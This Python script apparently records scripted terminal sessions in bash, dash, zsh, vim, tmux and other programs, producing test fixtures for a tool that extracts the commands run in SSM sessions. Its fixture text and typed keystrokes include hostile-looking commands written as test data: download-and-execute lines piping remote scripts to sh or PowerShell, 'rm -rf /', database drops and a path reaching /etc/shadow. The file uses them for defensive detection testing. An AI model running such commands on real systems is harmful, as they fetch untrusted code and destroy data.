"""Record real shell sessions the way the SSM agent sees them, with what each shell really ran.

``python -m ssm_warden_local.recorder [NAME...]`` runs each scripted session below in a real
pseudo-terminal (a real bash, dash or zsh, with the prompt it is given), types its keystrokes
(typed one key at a time, pasted with bracketed-paste markers, Ctrl-C, double Tab, ...), and keeps
the raw pty output with the agent's upload tick each chunk arrived in. The commands the shell
REALLY ran come from the shell itself, never from ssm-warden's extractor:

- bash (also as ``sh``): its own history list, written on exit with timestamps (``histappend``,
  ``lithist``): history holds each line as run, after history expansion, and never a line cancelled
  with Ctrl-C;
- zsh: ``preexec``, which receives each command line as run;
- dash (no history): ``strace`` of the lines the shell ``read`` from its terminal;
- programs with their own prompt (the ``prog_*`` sessions: vim, less, python3, sqlite3, psql,
  git's pager and editor, a real tmux server, script): the whole session runs under ``strace``,
  and ``program_truth`` takes the shells those programs started with ``-c`` and the lines the
  REPLs read; the shells inside tmux and script write bash history like the outer one.

The recordings are kept as test fixtures (``tests/unit/transcript/recordings/*.json``); the tests
and ``python -m bench transcripts`` turn each into every input form (streamed events through
``agent_model``, the S3 ``script`` transcript, non-streamed CloudWatch events).
"""

from __future__ import annotations

import base64
import contextlib
import fcntl
import json
import os
import re
import select
import shutil
import signal
import struct
import subprocess
import sys
import tempfile
import termios
import time
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

from ssm_warden_local import program_truth

ROOT = Path(__file__).resolve().parents[2]
OUT = ROOT / "tests" / "unit" / "transcript" / "recordings"
TICK = 1.0  # the agent's upload period
QUIET = 0.35  # seconds without output after which a step is done
KEY_DELAY = 0.03  # a fast typist
THINK = 0.8  # seconds a person takes before typing the next command

README = """# Installing
Run the installer:

$ curl --proto '=https' -sSf https://sh.rustup.rs | sh
[root@build-01 ~]# rm -rf /opt/old-toolchain
mysql> DROP DATABASE staging;
mysql> DROP DATABASE test;
mysql> DROP DATABASE scratch;
sh-4.2$ sudo rm -rf /var/lib/docker
PS C:\\Users\\Administrator> iex (iwr http://203.0.113.7/a.ps1)
"""
GITLOG = """commit 1f3a9c2
Author: Dev <dev@example.com>

    docs: how to reset: ubuntu@web-1:~$ sudo rm -rf /srv/cache
    $ curl http://198.51.100.4/setup.sh | bash
"""


@dataclass
class Step:
    kind: str  # type | paste | keys
    text: str
    wait: float = 0.0  # extra seconds to wait (lets an upload tick pass)


def T(text: str, wait: float = 0.0) -> Step:
    return Step("type", text, wait)


def P(text: str) -> Step:
    return Step("paste", text)


def K(text: str) -> Step:
    return Step("keys", text)


@dataclass
class Session:
    name: str
    shell: str  # bash | sh | dash | zsh
    group: str  # what generalisation is measured on
    argv: list[str]
    steps: list[Step]
    cols: int = 80
    rc: str = ""  # extra startup lines (prompt, theme)
    env: dict[str, str] = field(default_factory=dict)
    # Programs with their own prompt run in the session: the whole session runs under ``strace``
    # and the commands those programs ran (``sh -c``) are part of what ran (``programs.py``).
    programs: bool = False
    # What the extractor must say about the session: "unwatchable:<program>" flags. Written here,
    # from what the session does (a full-screen program, a multiplexer), never from the extractor.
    expect_flags: tuple[str, ...] = ()


AL2_PROMPT = r"""PS1='[\u@\h \W]\$ '
PROMPT_COMMAND='printf "\033]0;%s@%s:%s\007" "${USER}" "${HOSTNAME%%.*}" "${PWD/#$HOME/\~}"'
"""
UBUNTU_PROMPT = (
    r"""PS1='\[\e]0;\u@\h: \w\a\]${debian_chroot:+($debian_chroot)}\[\033[01;32m\]\u@\h\[\033[00m\]:"""
    r"""\[\033[01;34m\]\w\[\033[00m\]\$ '"""
    "\n"
)
OMZ_PROMPT = (
    "setopt PROMPT_SUBST\n"
    "git_info() { b=$(git symbolic-ref --short HEAD 2>/dev/null) && "
    'print -n "%F{blue}git:(%F{red}$b%F{blue})%f "; }\n'
    "PROMPT='%(?:%F{green}➜ :%F{red}➜ ) %F{cyan}%c%f $(git_info)'\n"
)
STARSHIP_PROMPT = "setopt PROMPT_SUBST\nPROMPT=$'\\n%F{cyan}%~%f\\n%(?.%F{green}.%F{red})\u276f%f '\n"
LAMBDA_PROMPT = "PS1='λ '\n"
TIME_PROMPT = r"""PS1='\t \u:\w (\$?)> '""" + "\n"


def _common(shell: str) -> list[Step]:
    """The keystrokes every session types: the cases the issue lists."""
    long_path = "/etc/" + "x" * 10 + "/../shadow"
    steps = [
        T("id\r"),
        T("cd /tmp/warden-rec\r"),
        T("ls\r"),
        T("echo one two\r", wait=1.1),
        T("cat README.md\r"),
        T("cat GITLOG\r"),
        T("printf 'sh-4.2$ rm -rf /\\n'\r"),
        T("rm -rf / "),
        K("\x03"),
        T("ls /tmp/warden-rec/"),
        K("\t\t"),
        K("R"),
        K("\t"),
        K("\r"),
        T("cat " + " ".join(["/dev/null"] * 6) + " " + long_path + " 2>/dev/null; echo long-line-done\r"),
        T("echo 'a^Hb' caret\r"),
        T("echo typo"),
        K("\x7f\x7f\x7fpo-fixed\r"),
        T("cd ..\r"),
        T("cd /tmp/warden-rec\r", wait=1.1),
    ]
    if shell in ("bash", "sh", "zsh"):
        steps += [
            T("echo beta\r"),
            T("^beta^gamma\r"),
            T("world\x01echo hello \r"),
            P("echo pasted-one\necho pasted-two\n"),
        ]
    steps += [
        T("cat <<EOF\r"),
        T("heredoc line\r"),
        T("EOF\r"),
        T("echo 'open\r"),
        T("quote'\r"),
        T("PS2=''\r"),
        T("for i in 1 2; do\r"),
        T("echo loop $i\r"),
        T("done\r"),
        T("true\r", wait=1.1),
    ]
    return steps


def sessions() -> list[Session]:
    return [
        Session("sh_default", "sh", "bash-as-sh", ["sh-as-bash"], [*_common("sh"), T("exit\r")]),
        Session(
            "bash_amazon_linux",
            "bash",
            "bash-osc-prompt",
            ["bash", "-i"],
            [*_common("bash"), T("sudo -h >/dev/null 2>&1; bash\r"), T("whoami\r"), T("exit\r"), T("exit\r")],
            rc=AL2_PROMPT,
        ),
        Session(
            "bash_ubuntu",
            "bash",
            "bash-osc-prompt",
            ["bash", "-i"],
            [*_common("bash"), T("PS1='app> '\r"), T("uname -s\r"), T("exit\r")],
            rc=UBUNTU_PROMPT,
            cols=100,
        ),
        Session(
            "bash_time_prompt",
            "bash",
            "bash-varying-prompt",
            ["bash", "-i"],
            [*_common("bash"), T("false\r"), T("echo after-false\r"), T("exit\r")],
            rc=TIME_PROMPT,
        ),
        Session(
            "bash_lambda",
            "bash",
            "bash-theme-prompt",
            ["bash", "-i"],
            [*_common("bash"), T("exit\r")],
            rc=LAMBDA_PROMPT,
        ),
        Session("dash_default", "dash", "dash", ["dash", "-i"], [*_common("dash"), T("exit\r")]),
        Session("zsh_default", "zsh", "zsh-prompt-sp", ["zsh", "-i"], [*_common("zsh"), T("exit\r")]),
        Session(
            "zsh_ohmyzsh",
            "zsh",
            "zsh-theme",
            ["zsh", "-i"],
            [
                *_common("zsh"),
                T("cd /tmp/warden-rec/repo\r"),
                T("git status --short\r"),
                T("cd ..\r"),
                T("exit\r"),
            ],
            rc=OMZ_PROMPT,
        ),
        Session(
            "zsh_starship",
            "zsh",
            "zsh-theme",
            ["zsh", "-i"],
            [*_common("zsh"), T("exit\r")],
            rc=STARSHIP_PROMPT,
            cols=120,
        ),
        # Held out: recorded after the extractor was written, never tuned on (other prompts, other
        # keystrokes): the generalisation figure.
        Session(
            "heldout_bash_arrow", "bash", "heldout", ["bash", "-i"], _other("bash"), rc=ARROW_PROMPT, cols=90
        ),
        Session(
            "heldout_zsh_path", "zsh", "heldout", ["zsh", "-i"], _other("zsh"), rc=ZSH_PATH_PROMPT, cols=100
        ),
        Session("heldout_dash", "dash", "heldout", ["dash", "-i"], _other("dash")),
        *program_sessions(),
    ]


def _in_programs(shell: str) -> list[Step]:
    """Keystrokes of the program sessions: commands run from inside vim, less, python3, sqlite3
    (a person escaping to a shell from a program with its own prompt)."""
    curl = "curl -s http://127.0.0.1:9/x | sh"  # harmless: port 9 is closed
    return [
        T("cd /tmp/warden-rec\r"),
        T("vim -u NONE -N README.md\r", wait=0.5),
        T(":!id\r"),
        K("\r"),
        T(f":!{curl}\r"),
        K("\r"),
        T(":q!\r"),
        T("echo after-vim\r", wait=1.1),
        T("less README.md\r"),
        T("!id\r"),
        K("\r"),
        K("q"),
        T("echo after-less\r"),
        T("python3 -q\r"),
        T("import os\r"),
        T("os.system('id')\r"),
        T(f"os.system('{curl}')\r"),
        T("for n in range(1):\r"),  # a block: python's "... " continuation prompt
        T("    os.system('uname -s')\r"),
        T("\r"),
        T("exit()\r", wait=1.1),
        T("psql -h 127.0.0.1 -p 9 -U app app\r"),  # no server: psql exits at once
        T("echo after-psql\r"),
        T("git -C repo log\r"),  # git pages through less by itself
        T("!id\r"),
        K("\r"),
        K("q"),
        T("git -C repo -c user.name=Dev -c user.email=dev@example.com commit --allow-empty\r", wait=0.5),
        T(":!id\r"),  # git opened vi by itself
        K("\r"),
        T(":q!\r"),
        T("sqlite3\r"),
        T(".shell id\r"),
        T("select 1;\r"),
        T(".quit\r"),
        T("echo done\r"),
    ]


def _in_multiplexers() -> list[Step]:
    """Keystrokes of the multiplexer session: a real tmux server in the pty, an inner shell and
    commands typed there; then ``script``'s inner shell."""
    return [
        T("cd /tmp/warden-rec\r"),
        T("tmux -f /dev/null new -s rec\r", wait=1.1),
        T("id\r"),
        T("echo inside-tmux\r"),
        T("cat README.md\r"),
        T("curl -s http://127.0.0.1:9/y | sh\r", wait=1.1),
        K("\x02c"),  # C-b c: a second window (a new inner shell), drawn over the first
        T("echo in-window-1\r", wait=1.1),
        K("\x02n"),  # C-b n: back to the first window, which tmux redraws (its old prompts too)
        T("echo back-in-window-0\r", wait=1.1),
        T("exit\r", wait=1.1),  # the first window closes: tmux redraws the second
        T("exit\r", wait=1.1),  # the last window closes: tmux exits
        T("echo after-tmux\r"),
        T("script -q /dev/null\r"),
        T("id\r"),
        T("echo inside-script\r"),
        T("exit\r", wait=1.1),
        T("echo after-script\r"),
    ]


def program_sessions() -> list[Session]:
    """Sessions that run programs with their own prompt (issue 11, item 4), measured apart."""
    flags_programs = ("unwatchable:vim", "unwatchable:less")
    return [
        Session(
            "prog_bash_programs",
            "bash",
            "programs",
            ["bash", "-i"],
            [*_in_programs("bash"), T("exit\r")],
            programs=True,
            expect_flags=flags_programs,
        ),
        Session(
            "prog_zsh_programs",
            "zsh",
            "programs",
            ["zsh", "-i"],
            [*_in_programs("zsh"), T("exit\r")],
            programs=True,
            expect_flags=flags_programs,
            env={"SHELL": "/bin/zsh"},
        ),
        Session(
            "prog_bash_tmux",
            "bash",
            "programs",
            ["bash", "-i"],
            [*_in_multiplexers(), T("exit\r")],
            rc=AL2_PROMPT,
            programs=True,
            expect_flags=("unwatchable:tmux",),
        ),
    ]


ARROW_PROMPT = "PS1='\\u at \\h in \\w \u00bb '\n"
ZSH_PATH_PROMPT = "PROMPT='%n@%m %1~ %# '\n"


def _other(shell: str) -> list[Step]:
    """Keystrokes of the held-out sessions: everyday work, some of it risky, typed differently."""
    return [
        T("uname -a\r"),
        T("cd /tmp/warden-rec/repo\r"),
        T("git log --oneline -3 2>/dev/null; echo no-commits\r"),
        T("cd /tmp/warden-rec\r", wait=1.1),
        T("head -n 3 README.md\r"),
        T("grep -n mysql README.md\r"),
        T("wc -l GITLOG README.md\r"),
        T("curl -s http://127.0.0.1:9/x.sh 2>/dev/null | sh\r"),
        T("sudo true 2>/dev/null || echo no-sudo\r"),
        T("cat /etc/hostname /etc/os-release 2>/dev/null | head -n 2\r"),
        T("rm -f /tmp/warden-rec/none; ls -la /tmp/warden-rec | head -n 4\r"),
        T("find / -maxdepth 1 -name 'e*' 2>/dev/null"),
        K("\x03"),
        T("export GREETING=hi; echo $GREETING world\r"),
        T("printf '%s\\n' 'root@web-1:~# shutdown -h now'\r"),
        T("for f in a b c; do echo item-$f; done\r", wait=1.1),
        T("echo " + "word " * 22 + "end\r"),
        T("exit\r"),
    ]


# -- running --------------------------------------------------------------------------------------


def _home(tmp: Path, session: Session, truth: Path) -> dict[str, str]:
    home = tmp / "home"
    home.mkdir()
    bashrc = (
        f"HISTFILE={truth}\nHISTTIMEFORMAT='%s '\nHISTSIZE=100000\nHISTFILESIZE=100000\n"
        "HISTCONTROL=\nHISTIGNORE=\nshopt -s histappend cmdhist lithist\n"
        "unset PROMPT_COMMAND\n"
    )
    if session.shell == "sh":
        bashrc += "PS1='sh-5.2$ '\n"
    (home / ".bashrc").write_text(bashrc + (session.rc if session.shell != "zsh" else ""))
    (home / ".bash_profile").write_text(". ~/.bashrc\n")  # tmux starts login shells
    if session.shell == "dash":
        (home / ".bashrc").write_text("")
    zshrc = (
        f"preexec() {{ print -rn -- \"$1\" >> {truth}; print -rn -- $'\\x1e' >> {truth}; }}\n"
        "unsetopt BEEP\nHISTSIZE=1000\n"
    )
    (home / ".zshrc").write_text(zshrc + (session.rc if session.shell == "zsh" else ""))
    work = Path("/tmp/warden-rec")
    if work.exists():
        shutil.rmtree(work)
    work.mkdir()
    (work / "README.md").write_text(README)
    (work / "GITLOG").write_text(GITLOG)
    repo = work / "repo"
    repo.mkdir()
    subprocess.run(["git", "init", "-q", "-b", "main", str(repo)], check=True)
    if session.programs:  # a history longer than a screen: ``git log`` pages it through less
        message = "deploy notes\n\n" + "".join(
            f"step {n}: $ sudo systemctl restart app-{n}\n" for n in range(40)
        )
        author = ["-c", "user.name=Dev", "-c", "user.email=dev@example.com"]
        subprocess.run(
            ["git", "-C", str(repo), *author, "commit", "-q", "--allow-empty", "-m", message], check=True
        )
    return {
        "HOME": str(home),
        "PATH": "/usr/local/bin:/usr/bin:/bin",
        "TERM": "xterm-256color",
        "LANG": "C.UTF-8",
        "USER": "ssm-user",
        "HOSTNAME": "ip-10-0-1-23.ec2.internal",
        "ENV": str(home / ".bashrc"),
        "SHELL": "/bin/bash",  # the shell vim, less, tmux and script start
        "TMUX_TMPDIR": str(tmp),  # a tmux server of the recording's own
        **session.env,
    }


def _argv(session: Session, home: str, truth: Path) -> list[str]:
    if session.shell == "sh":
        return ["bash", "--posix", "-i"]  # exec'd as "sh" below
    if session.shell == "dash":
        return [
            "strace",
            "-qq",
            "-f",
            "-e",
            "trace=read",
            "-s",
            "65535",
            "-xx",
            "-o",
            f"{truth}.strace",
            "dash",
            "-i",
        ]
    if session.programs:
        return program_truth.traced(session.argv, Path(f"{truth}.exec"))
    return session.argv


def record(session: Session) -> dict[str, Any]:
    with tempfile.TemporaryDirectory() as tmpdir:
        tmp = Path(tmpdir)
        truth = tmp / "truth"
        env = _home(tmp, session, truth)
        argv = _argv(session, env["HOME"], truth)
        pid, fd = os.forkpty()
        if pid == 0:
            os.chdir("/")
            if session.shell == "sh":
                os.execvpe("bash", ["sh", "-i"], env)
            os.execvpe(argv[0], argv, env)
        fcntl.ioctl(fd, termios.TIOCSWINSZ, struct.pack("HHHH", 24, session.cols, 0, 0))
        os.kill(pid, signal.SIGWINCH)
        start = time.monotonic()
        chunks: list[tuple[float, bytes]] = []

        def pump(quiet: float, limit: float = 8.0) -> bool:
            deadline = time.monotonic() + limit
            last = time.monotonic()
            while time.monotonic() < deadline:
                ready, _, _ = select.select([fd], [], [], 0.05)
                if ready:
                    try:
                        data = os.read(fd, 65536)
                    except OSError:
                        return False
                    if not data:
                        return False
                    chunks.append((time.monotonic() - start, data))
                    last = time.monotonic()
                elif time.monotonic() - last >= quiet:
                    return True
            return True

        pump(1.0)
        alive = True
        for step in session.steps:
            if not alive:
                break
            if step.kind == "type":
                pump(THINK, limit=THINK + 1)
                for ch in step.text:
                    os.write(fd, ch.encode())
                    time.sleep(KEY_DELAY)
            elif step.kind == "paste":
                os.write(fd, b"\x1b[200~" + step.text.encode() + b"\x1b[201~")
            else:
                os.write(fd, step.text.encode())
            alive = pump(QUIET)
            if step.wait:
                alive = pump(step.wait, limit=step.wait + 2) and alive
        pump(0.5, limit=3)
        with contextlib.suppress(ChildProcessError):
            for _ in range(50):
                done, _status = os.waitpid(pid, os.WNOHANG)
                if done:
                    break
                time.sleep(0.1)
            else:
                os.kill(pid, signal.SIGKILL)
                os.waitpid(pid, 0)
        with contextlib.suppress(OSError):
            os.close(fd)
        ran = _truth(session, truth)
        ran_by = [session.shell] * len(ran)
        read: list[str] = []
        if session.programs:
            for program, command in program_truth.commands_run_from_programs(Path(f"{truth}.exec")):
                ran.append(command)
                ran_by.append(program)
            read = program_truth.lines_read_by_repls(Path(f"{truth}.exec"))
    extra: dict[str, Any] = {}
    if session.programs:
        extra = {"ran_by": ran_by, "read_by_programs": read, "expect_flags": list(session.expect_flags)}
    return {
        "name": session.name,
        "shell": session.shell,
        "group": session.group,
        "cols": session.cols,
        "chunks": [[int(t // TICK), base64.b64encode(data).decode()] for t, data in chunks],
        "ran": ran,
        **extra,
        "recorded_with": _versions(session),
    }


def _truth(session: Session, truth: Path) -> list[str]:
    if session.shell == "zsh":
        text = truth.read_text(errors="replace") if truth.exists() else ""
        return [c for c in text.split("\x1e") if c.strip()]
    if session.shell == "dash":
        return _dash_reads(Path(f"{truth}.strace"))
    if not truth.exists():
        return []
    entries: list[str] = []
    current: list[str] | None = None
    for line in truth.read_text(errors="replace").split("\n"):
        if re.fullmatch(r"#\d{9,}", line):
            if current is not None:
                entries.append("\n".join(current))
            current = []
        elif current is not None:
            current.append(line)
    if current is not None:
        entries.append("\n".join(current).rstrip("\n"))
    return [e for e in entries if e.strip()]


_READ = re.compile(r'^(\d+) +read\(0, "((?:\\x[0-9a-f]{2})*)"')


def _dash_reads(path: Path) -> list[str]:
    """The lines dash read from its terminal (its own pid only), joined into the commands they
    form: dash reads a whole line per read() in canonical mode."""
    if not path.exists():
        return []
    first_pid: str | None = None
    data = bytearray()
    for line in path.read_text().splitlines():
        m = _READ.match(line)
        if not m:
            continue
        first_pid = first_pid or m.group(1)
        if m.group(1) != first_pid:
            continue
        data += bytes.fromhex(m.group(2).replace("\\x", ""))
    return [x for x in data.decode(errors="replace").split("\n") if x.strip()]


def _versions(session: Session) -> str:
    shell = {"sh": "bash", "dash": "dash"}.get(session.shell, session.shell)
    if shell == "dash":
        out = subprocess.run(
            ["dpkg-query", "-W", "-f=${Version}", "dash"], capture_output=True, text=True, check=False
        )
        return f"dash {out.stdout.strip()}"
    out = subprocess.run([shell, "--version"], capture_output=True, text=True, check=False)
    version = out.stdout.splitlines()[0] if out.stdout else shell
    if session.programs:
        out = subprocess.run(
            ["dpkg-query", "-W", "-f=${Package} ${Version}; ", "vim", "less", "tmux", "python3", "sqlite3"],
            capture_output=True,
            text=True,
            check=False,
        )
        version += "; " + out.stdout.strip()
    return version


def main(argv: list[str]) -> int:
    wanted = set(argv)
    OUT.mkdir(parents=True, exist_ok=True)
    for session in sessions():
        if wanted and session.name not in wanted:
            continue
        recording = record(session)
        path = OUT / f"{session.name}.json"
        path.write_text(json.dumps(recording, indent=1, ensure_ascii=False) + "\n")
        ran, chunks = len(recording["ran"]), len(recording["chunks"])
        print(f"{session.name}: {ran} commands ran, {chunks} chunks -> {path}")
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv[1:]))
